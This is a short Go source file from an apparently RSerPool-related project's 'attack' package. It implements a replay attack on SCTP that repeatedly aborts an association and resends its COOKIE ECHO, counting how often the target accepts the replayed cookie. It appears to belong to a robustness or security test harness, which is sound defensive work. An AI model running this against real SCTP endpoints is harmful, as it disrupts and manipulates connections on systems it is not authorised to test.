package attack

import (
	"context"
	"time"

	"github.com/rserpool-go/rserpool/internal/attack/rawsctp"
)

// outcomeReplayed counts the replays of a cookie that brought an association up again.
const outcomeReplayed = "replayed cookies accepted"

const replayWait = 100 * time.Millisecond

// replayCookie ends an association, and sends its COOKIE ECHO again and again.
func replayCookie(ctx context.Context, w *work) error {
	a, err := rawsctp.Dial(ctx, w.source(0), w.to)
	if err != nil {
		return err
	}
	defer a.Close()
	for p := w.pacer(1); p.next(ctx); {
		if err := a.Send(rawsctp.Chunk{Type: rawsctp.TypeAbort}); err != nil {
			return err
		}
		if err := a.Send(rawsctp.Chunk{Type: rawsctp.TypeCookieEcho, Value: a.Cookie}); err != nil {
			return err
		}
		w.count(1)
		if chunks, err := a.Receive(replayWait); err == nil && chunks[0].Type == rawsctp.TypeCookieAck {
			w.note(outcomeReplayed, 1)
		}
	}
	return nil
}
